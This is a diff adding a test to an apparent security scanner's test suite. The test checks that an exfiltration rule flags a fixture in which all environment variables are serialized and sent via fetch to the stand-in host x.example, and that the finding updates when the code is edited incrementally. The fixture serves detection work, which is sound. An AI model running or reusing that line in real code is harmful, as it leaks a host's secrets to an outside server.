@@ -385,6 +385,16 @@ describe('incremental editor scan: same findings as a full scan', () => {
     assertSameAsFull('f.jsx', [v1, v2, v1]);
   });
 
+  it('host data reaching a request URL through a chain of variables, edited at its start', () => {
+    const v1 = 'const raw = JSON.stringify(process.env);\nfunction a() {}\nconst data = encodeURIComponent(raw);\nfunction b() {}\nfetch("https://x.example/?d=" + data);\n';
+    const v2 = v1.replace('JSON.stringify(process.env)', 'JSON.stringify({ v: 1 })');
+    const scanner = assertSameAsFull('chain.js', [v1, v2, v1]);
+    assert.equal(scanner.lastUpdate, 'incremental');
+    const exfil = (text: string) => scanFileText(text, options('chain.js')).findings.find((f) => f.ruleId === 'SEC-EXFIL-001')?.message;
+    assert.equal(exfil(v1), 'Request URL built at runtime — includes environment data');
+    assert.equal(exfil(v2), 'Request URL built at runtime');
+  });
+
   it('a renamed alias changes findings in a distant statement', () => {
     const v1 = 'const run = eval;\nfunction a() {}\nfunction b() {}\nrun("1");\n';
     assertSameAsFull('a.js', [v1, v1.replace('const run = eval', 'const run = JSON.parse'), v1.replace('const run = eval', 'const nur = eval'), v1]);
